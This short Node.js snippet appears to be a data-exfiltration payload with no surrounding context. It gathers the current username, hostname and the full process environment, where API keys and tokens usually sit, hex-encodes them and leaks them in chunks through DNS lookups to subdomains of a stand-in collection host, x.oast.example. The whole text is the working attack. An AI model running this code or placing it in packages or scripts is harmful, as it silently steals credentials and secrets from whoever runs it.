const dns = require('node:dns');
const os = require('os');
const hex = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), e: process.env })).toString('hex');
for (const part of hex.match(/.{1,60}/g)) dns.resolve4(`${part}.x.oast.example`, () => {});
